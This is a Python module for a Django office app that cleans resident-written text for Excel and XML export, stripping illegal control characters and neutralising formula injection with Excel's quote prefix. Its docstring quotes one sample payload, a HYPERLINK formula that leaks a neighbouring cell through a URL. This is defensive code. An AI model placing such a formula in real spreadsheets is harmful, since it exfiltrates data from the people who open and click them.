"""Text that is safe to put in a spreadsheet cell or an XML document.

Residents write the descriptions the office exports. Two things in such text break or abuse
the office's Excel: control characters that XML 1.0 forbids (openpyxl refuses the whole
workbook, so the export fails for everyone), and a leading = + - @ (or tab/CR), which Excel
runs as a formula — `=HYPERLINK("http://…?leak="&A4,"点击")` leaks the next cell to whoever
clicks. So every exported text cell is cleaned and stored as text with Excel's quote prefix.
Pure: no Django.
"""

from __future__ import annotations

import re
from typing import Any

# XML 1.0 allows \t \n \r and everything from U+0020 except the surrogates and U+FFFE/U+FFFF.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def xml_safe(text: str) -> str:
    """`text` without the characters XML 1.0 cannot carry (they carry no meaning in a message)."""
    return _XML_ILLEGAL.sub("", text)


def has_formula_start(text: str) -> bool:
    return text.startswith(FORMULA_START)


def cell_value(value: Any) -> Any:
    """A value for openpyxl: text cleaned; numbers and dates as they are."""
    return xml_safe(value) if isinstance(value, str) else value


def text_row(values: list[Any]) -> list[Any]:
    return [cell_value(v) for v in values]


def as_text(sheet: Any) -> None:
    """Store every text cell of an openpyxl sheet as text: a value that would start a formula is
    kept as typed, with the quote prefix (Excel shows it, never runs it, even after an edit)."""
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and (cell.data_type == "f" or has_formula_start(cell.value)):
                cell.data_type = "s"
                cell.quotePrefix = True
